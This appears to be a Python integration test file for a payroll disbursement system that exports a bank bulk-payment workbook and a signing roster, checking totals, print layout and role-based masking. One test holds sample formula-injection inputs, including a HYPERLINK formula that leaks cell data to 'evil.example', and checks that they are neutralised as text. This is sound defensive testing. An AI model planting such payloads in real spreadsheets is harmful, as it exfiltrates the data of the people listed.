"""The bank file and the payout roster, re-read with openpyxl: cells, formats, totals
that equal the ledger, and masking by role."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import date
from pathlib import Path

from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import Engine, delete, text, update

from api.cli import main
from ledger.batches import disbursement
from ledger.batches.batch import Payee
from ledger.registry import roster_services
from ledger.workbooks import payout_files
from schema import migrate
from schema.db import UnitOfWork
from schema.tables import PersonRow, UserRow
from tests.fakes import created
from tests.integration.test_batches import ON, balances, person, run
from tests.integration.test_batches import year as year  # noqa: PLC0414 (the fixture)


def test_the_exported_workbooks_tie_to_the_ledger(year: Engine, tmp_path: Path) -> None:
    batch = run(year, lambda uow: created(uow, 2024, "clerk", ON)).batch
    run(year, lambda uow: disbursement.approve(uow, batch.id, "boss1", ON))
    with UnitOfWork(year, write=False) as uow:
        exported = payout_files.export(uow, batch.id, "cashier1", tmp_path)
    roster_path, bank_path = exported.files
    assert roster_path.name == f"batch-{batch.id}-发放表.xlsx"

    bank = load_workbook(bank_path).active
    rows = list(bank.iter_rows(values_only=True))
    assert rows[0][0] == "杭锦旗名师工作室2024年度劳务补贴批量代发"
    assert rows[1][0].startswith(f"批次 #{batch.id}　状态：已审批")
    # the header a bank upload reads first: 笔数 and 总金额
    assert rows[2][:4] == ("总笔数", len(batch.lines), "总金额", 48600.0)
    assert rows[3] == ("收款账号开户行", "收款账号", "收款账号名称", "金额", "汇款用途", "备注")
    # lines run in studio-code order: line 1 is HJ-H01's host, 教师11
    assert rows[4] == (
        "中国农业银行杭锦旗支行",
        "6228480000000000011",
        "教师11",
        8400.0,
        "2024年度名师工作室劳务补贴",
        f"批次#{batch.id}-1 HJ-H01",
    )
    payments = rows[4 : 4 + len(batch.lines)]
    assert rows[4 + len(batch.lines)][:4] == ("合计", None, f"{len(batch.lines)}笔", 48600.0)
    assert bank["D5"].number_format == "0.00"  # plain two decimals, as bank templates want
    assert bank["D3"].number_format == "0.00"
    assert isinstance(bank["D5"].value, int | float)  # a number, never text
    total_fen = sum(round(r[3] * 100) for r in payments)
    assert total_fen == exported.bank_total == batch.net == 5_750_000 - 890_000
    assert bank.print_title_rows == "$1:$4"

    run(year, lambda uow: disbursement.confirm(uow, batch.id, "cashier1", ON))
    assert balances(year, "bank:disbursed") == [total_fen]

    roster = load_workbook(roster_path).active
    assert roster["A1"].value == "杭锦旗名师工作室2024年度劳务补贴发放表"
    assert roster["A2"].value == (
        f"批次 #{batch.id}　状态：已审批　政策：杭政办发〔2024〕2号　经办：clerk　审批：boss1"
    )
    assert "A1:M1" in roster.merged_cells
    header = [c.value for c in roster[3]]
    assert header == [
        "序号",
        "工作室",
        "姓名",
        "身份证号",
        "银行账号",
        "角色",
        "月数",
        "等次",
        "应发金额",
        "代扣税款",
        "实发金额",
        "实发金额大写",
        "领款人签字",
    ]
    first = [c.value for c in roster[4]]
    assert first[:12] == [
        1,
        "HJ-H01",
        "教师11",
        first[3],
        "***************0011",
        "主持人",
        12,
        "合格",
        10000.0,
        1600.0,
        8400.0,
        "捌仟肆佰元整",
    ]
    whole = person(11, "第二中学").id_number  # the signing sheet masks it, even for 出纳
    assert first[3] == f"150625********{whole[-4:]}"
    assert roster.row_dimensions[4].height == 30  # room to sign
    total_row = 4 + len(batch.lines)
    totals = [c.value for c in roster[total_row]]
    assert totals[0] == "合计"
    assert (totals[8], totals[9], totals[10]) == (57500.0, 8900.0, 48600.0)
    assert totals[11] == "肆万捌仟陆佰元整"
    assert f"A{total_row}:H{total_row}" in roster.merged_cells
    assert all(
        roster.cell(row=r, column=c).number_format == "#,##0.00"
        for r in range(4, total_row + 1)
        for c in (9, 10, 11)
    )
    assert roster.freeze_panes == "A4"
    assert roster.print_title_rows == "$1:$3"
    assert [roster.cell(row=total_row + 1, column=c).value for c in (1, 5, 9)] == [
        "经办人（签字）：",
        "审核人（签字）：",
        "负责人（签字）：",
    ]
    assert roster.cell(row=total_row + 2, column=1).value.startswith("生成时间 ")
    assert "（北京时间），导出人 cashier1（出纳）" in roster.cell(row=total_row + 2, column=1).value


def test_every_workbook_prints_on_a4_one_page_wide(year: Engine, tmp_path: Path) -> None:
    batch = run(year, lambda uow: created(uow, 2024, "clerk", ON)).batch
    run(year, lambda uow: disbursement.approve(uow, batch.id, "boss1", ON))
    with UnitOfWork(year, write=False) as uow:
        exported = payout_files.export(uow, batch.id, "cashier1", tmp_path)
    for path in exported.files:
        ws = load_workbook(path).active
        assert ws.page_setup.paperSize == 9  # A4
        assert ws.page_setup.orientation == "landscape"
        assert ws.sheet_properties.pageSetUpPr.fitToPage is True
        assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
        assert ws.oddFooter.center.text == "第 &P 页 共 &N 页"
        fonts = {
            (c.font.name, c.font.b) for row in ws.iter_rows() for c in row if c.value is not None
        }
        assert {name for name, _ in fonts} == {"宋体"}
        assert ("宋体", True) in fonts
        assert ("宋体", False) in fonts


def test_other_roles_get_masked_numbers_and_no_bank_file(year: Engine, tmp_path: Path) -> None:
    batch = run(year, lambda uow: created(uow, 2024, "clerk", ON)).batch
    run(year, lambda uow: disbursement.approve(uow, batch.id, "boss1", date(2025, 1, 10)))
    with UnitOfWork(year, write=False) as uow:
        exported = payout_files.export(uow, batch.id, "audit", tmp_path)
    [roster_path] = exported.files
    assert exported.notes == ["未生成批量代发文件：文件含完整银行账号，仅出纳可以导出"]
    roster = load_workbook(roster_path).active
    whole = person(11, "第二中学").id_number
    assert roster["D4"].value == f"150625********{whole[-4:]}"
    assert roster["E4"].value == "***************0011"
    assert not (tmp_path / f"batch-{batch.id}-批量代发.xlsx").exists()


def test_a_draft_batch_is_not_sent_to_the_bank(year: Engine, tmp_path: Path) -> None:
    batch = run(year, lambda uow: created(uow, 2024, "clerk", ON)).batch
    with UnitOfWork(year, write=False) as uow:
        exported = payout_files.export(uow, batch.id, "cashier1", tmp_path)
    assert exported.notes == ["未生成批量代发文件：批次状态为草稿，只有审批通过的批次才发送银行"]
    assert [p.name for p in exported.files] == [f"batch-{batch.id}-发放表.xlsx"]


def test_the_bank_file_can_be_exported_again_after_payment_marked_as_a_copy(
    year: Engine, tmp_path: Path
) -> None:
    batch = run(year, lambda uow: created(uow, 2024, "clerk", ON)).batch
    run(year, lambda uow: disbursement.approve(uow, batch.id, "boss1", ON))
    with UnitOfWork(year, write=False) as uow:
        sent = payout_files.export(uow, batch.id, "cashier1", tmp_path / "sent")
    run(
        year,
        lambda uow: disbursement.confirm(uow, batch.id, "cashier1", ON, failed={2: "账户冻结"}),
    )
    with UnitOfWork(year, write=False) as uow:
        again = payout_files.export(uow, batch.id, "cashier1", tmp_path / "again")
    assert again.bank_total == sent.bank_total == 4_860_000
    first = list(load_workbook(sent.files[1]).active.iter_rows(values_only=True))
    second = list(load_workbook(again.files[1]).active.iter_rows(values_only=True))
    assert second[0][0] == "杭锦旗名师工作室2024年度劳务补贴批量代发（对账副本，请勿再次提交银行）"
    assert second[1][0].startswith(f"批次 #{batch.id}　状态：部分发放")
    # the same payments as were sent, line for line
    assert second[2:-2] == first[2:-2]


HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我领取")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
)


def _formulas(path: Path) -> list[str]:
    """Every cell of every sheet that a spreadsheet would evaluate."""
    workbook = load_workbook(path)
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in workbook
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("="))
    ]


def test_user_text_never_becomes_a_formula_in_the_batch_files(year: Engine, tmp_path: Path) -> None:
    """Names, units and bank names typed as formulas come out as inert text."""
    with year.begin() as connection:
        for n, text in zip((1, 2, 3), HOSTILE, strict=False):
            connection.execute(
                update(PersonRow)
                .where(PersonRow.id_number == person(n, "").id_number)
                .values(name=text, bank_name=HOSTILE[-1 - n])
            )
    batch = run(year, lambda uow: created(uow, 2024, "clerk", ON)).batch
    run(year, lambda uow: disbursement.approve(uow, batch.id, "boss1", ON))
    with UnitOfWork(year, write=False) as uow:
        exported = payout_files.export(uow, batch.id, "cashier1", tmp_path)
    for path in exported.files:
        assert _formulas(path) == [], path.name
    roster = [c.value for row in load_workbook(exported.files[0]).active.iter_rows() for c in row]
    assert "'" + HOSTILE[0] in roster  # shown whole, apostrophe first: nothing lost
    bank = [c.value for row in load_workbook(exported.files[1]).active.iter_rows() for c in row]
    assert {"'+1+1", "'-2+3", "'@SUM(1)", "'\t=1"} <= set(bank)


def _bank_rows(path: Path) -> list[tuple[object, ...]]:
    return list(load_workbook(path).active.iter_rows(values_only=True))[3:]


def test_an_account_changed_after_approval_does_not_redirect_the_payment(
    year: Engine, tmp_path: Path
) -> None:
    """The clerk re-imports 教师11 (line 1) with a new account after the approval: the
    bank file and the 发放表 still pay the approved account, the line warns of the
    change, and only a reissue (approved again) pays the new one."""
    batch = run(year, lambda uow: created(uow, 2024, "clerk", ON)).batch
    run(year, lambda uow: disbursement.approve(uow, batch.id, "boss1", ON))
    with UnitOfWork(year, write=False) as uow:
        sent = payout_files.export(uow, batch.id, "cashier1", tmp_path / "sent")
    new_account = "6217000000000000099"
    moved = replace(person(11, "第二中学"), bank_account=new_account)
    run(year, lambda uow: roster_services.save_roster(uow, [], [moved], [], by="clerk"))

    with UnitOfWork(year, write=False) as uow:
        again = payout_files.export(uow, batch.id, "cashier1", tmp_path / "again")
        shown, _ = disbursement.show(uow, batch.id)
        warnings = disbursement.roster_changes(uow, shown)
        payees = disbursement.payees(uow, shown)
    assert _bank_rows(again.files[1]) == _bank_rows(sent.files[1])
    assert _bank_rows(again.files[1])[1][:4] == (
        "中国农业银行杭锦旗支行", "6228480000000000011", "教师11", 8400.0
    )  # fmt: skip
    roster = list(load_workbook(again.files[0]).active.iter_rows(values_only=True))
    whole = person(11, "").id_number  # masked on the signing sheet: its last four, as approved
    assert roster[3][2:5] == ("教师11", f"150625********{whole[-4:]}", "***************0011")
    assert payees[1].bank_account == "6228480000000000011"
    assert warnings == {
        1: "花名册已变更：银行账号 ***************0011 → ***************0099。"
        "本行仍按审批时的信息发放，如需改付，请在银行退回后重新发放（重新审批）"
    }

    db = ("--db", year.url.render_as_string(hide_password=False))
    shown_cli = CliRunner().invoke(main, [*db, "batches", "show", str(batch.id)], terminal_width=80)
    assert f"注意 第1行 教师11：{warnings[1]}" in shown_cli.stdout
    as_json = CliRunner().invoke(main, [*db, "batches", "show", str(batch.id), "--json"])
    lines = json.loads(as_json.stdout)["lines"]
    assert [(x["number"], x["roster_change"]) for x in lines if x["roster_change"]] == [
        (1, warnings[1])
    ]
    run(year, lambda uow: disbursement.confirm(uow, batch.id, "cashier1", ON, failed={1: "改卡"}))
    text = CliRunner().invoke(main, [*db, "batches", "show", str(batch.id)]).stdout
    assert "对账：尚未对平\n" in text
    assert "\n  银行退回待处理 1 笔 8,400.00 元\n" in text
    shown_cli = CliRunner().invoke(main, [*db, "batches", "show", str(batch.id), "--json"])
    tally = json.loads(shown_cli.stdout)["reconciliation"]
    assert (tally["sent"], tally["succeeded"], tally["failed"], tally["reconciled"]) == (
        {"count": len(batch.lines), "amount_fen": batch.net},
        {"count": len(batch.lines) - 1, "amount_fen": batch.net - 840_000},
        {"count": 1, "amount_fen": 840_000},
        False,
    )
    with UnitOfWork(year, write=False) as uow:
        bounced = disbursement.show(uow, batch.id)[0]
        assert disbursement.roster_changes(uow, bounced)[1].startswith("花名册已变更：银行账号")
    reissue = run(year, lambda uow: disbursement.reissue(uow, 2024, "clerk", ON))
    run(year, lambda uow: disbursement.approve(uow, reissue.id, "boss1", ON))
    with UnitOfWork(year, write=False) as uow:
        paid_again = payout_files.export(uow, reissue.id, "cashier1", tmp_path / "reissue")
        assert disbursement.roster_changes(uow, disbursement.show(uow, reissue.id)[0]) == {}
    assert _bank_rows(paid_again.files[1])[1][:4] == (
        "中国农业银行杭锦旗支行", new_account, "教师11", 8400.0
    )  # fmt: skip


def _as_recorded_before_0025(engine: Engine) -> None:
    """The ledger as the code before migration 0025 wrote it, naming no recorder, so that
    it may go below 0025 (which refuses to drop a name a hash covers). Only the roster is
    looked at afterwards, not the chain."""
    with engine.begin() as connection:
        if engine.dialect.name == "sqlite":
            connection.execute(text("DROP TRIGGER transactions_no_update"))
        else:
            connection.execute(text("ALTER TABLE transactions DISABLE TRIGGER USER"))
        connection.execute(text("UPDATE transactions SET recorded_by = NULL"))
        if engine.dialect.name != "sqlite":
            connection.execute(text("ALTER TABLE transactions ENABLE TRIGGER USER"))


def test_lines_approved_before_the_upgrade_keep_whom_the_roster_names_at_it(
    year: Engine,
) -> None:
    """Migration 0020 on a ledger whose approved batch has no frozen payees yet: its lines
    take the roster as it is at the upgrade, the best record there is."""
    approved = run(year, lambda uow: created(uow, 2024, "clerk", ON)).batch
    run(year, lambda uow: disbursement.approve(uow, approved.id, "boss1", ON))
    with year.begin() as connection:  # revision 0019 knew no cashier
        connection.execute(delete(UserRow).where(UserRow.role == "cashier"))
    _as_recorded_before_0025(year)
    migrate.downgrade(year, "0019")
    with year.begin() as connection:
        connection.execute(
            update(PersonRow)
            .where(PersonRow.id_number == person(11, "").id_number)
            .values(bank_account="6217000000000000099")
        )
    migrate.upgrade(year)
    with UnitOfWork(year, write=False) as uow:
        shown = disbursement.show(uow, approved.id)[0]
        payees = disbursement.payees(uow, shown)
    assert payees[1] == Payee(
        "教师11", person(11, "").id_number, "中国农业银行杭锦旗支行", "6217000000000000099"
    )
    assert all(line.payee is not None for line in shown.lines)


def test_an_approver_checks_whole_numbers_but_only_the_cashier_gets_the_bank_file(
    year: Engine, tmp_path: Path
) -> None:
    batch = run(year, lambda uow: created(uow, 2024, "clerk", ON)).batch
    run(year, lambda uow: disbursement.approve(uow, batch.id, "boss1", ON))
    with UnitOfWork(year, write=False) as uow:
        exported = payout_files.export(uow, batch.id, "boss1", tmp_path)
    [roster_path] = exported.files
    assert exported.notes == ["未生成批量代发文件：文件含完整银行账号，仅出纳可以导出"]
    roster = load_workbook(roster_path).active
    whole = person(11, "第二中学").id_number  # the approver checks on the batch page
    assert roster["D4"].value == f"150625********{whole[-4:]}"
    assert roster["E4"].value == "***************0011"


def test_every_page_of_the_roster_but_the_last_ends_with_its_subtotal(tmp_path: Path) -> None:
    """Five payees at two to a page: three pages, each ending with 本页小计 (figures and
    大写) and a page break after the first two; the last adds 合计, the subtotals' sum."""
    rows = [
        disbursement.PayoutRow(
            n,
            "HJ-S01",
            f"教师{n}",
            "150625********0011",
            "member",
            12,
            "qualified",
            gross,
            tax,
            gross - tax,
            "中国农业银行",
            "****0011",
            "",
        )
        for n, (gross, tax) in enumerate(
            [(1_000_000, 160_000), (500_000, 80_000), (333_333, 26_667), (1, 0), (400_000, 0)],
            start=1,
        )
    ]
    path = tmp_path / "roster.xlsx"
    heading = payout_files.Heading("发放表", "批次 #1", "生成时间")
    totals = payout_files.write_roster(path, rows, heading, per_page=2)
    assert totals == (2_233_334, 266_667, 1_966_667)
    sheet = load_workbook(path).active
    body = [
        (r[0], r[8], r[9], r[10], r[11])
        for r in sheet.iter_rows(min_row=4, max_row=sheet.max_row - 2, values_only=True)
    ]
    assert body == [
        (1, 10000.0, 1600.0, 8400.0, "捌仟肆佰元整"),
        (2, 5000.0, 800.0, 4200.0, "肆仟贰佰元整"),
        ("本页小计", 15000.0, 2400.0, 12600.0, "壹万贰仟陆佰元整"),
        (3, 3333.33, 266.67, 3066.66, "叁仟零陆拾陆元陆角陆分"),
        (4, 0.01, 0.0, 0.01, "壹分"),
        ("本页小计", 3333.34, 266.67, 3066.67, "叁仟零陆拾陆元陆角柒分"),
        (5, 4000.0, 0.0, 4000.0, "肆仟元整"),
        ("本页小计", 4000.0, 0.0, 4000.0, "肆仟元整"),
        ("合计", 22333.34, 2666.67, 19666.67, "壹万玖仟陆佰陆拾陆元陆角柒分"),
    ]
    assert [b.id for b in sheet.row_breaks.brk] == [6, 9]  # after each 本页小计 but the last
    assert sheet.cell(row=sheet.max_row - 1, column=1).value == "经办人（签字）："


def test_a_roster_that_fits_one_page_has_its_total_and_no_subtotal(tmp_path: Path) -> None:
    row = disbursement.PayoutRow(
        1, "HJ-S01", "教师1", "150625********0011", "host", 12, "qualified",
        1_000_000, 160_000, 840_000, "中国农业银行", "****0011", "",
    )  # fmt: skip
    path = tmp_path / "roster.xlsx"
    payout_files.write_roster(path, [row], payout_files.Heading("发放表", "批次", "生成"))
    sheet = load_workbook(path).active
    assert [sheet.cell(row=r, column=1).value for r in (4, 5)] == [1, "合计"]
    assert not sheet.row_breaks.brk
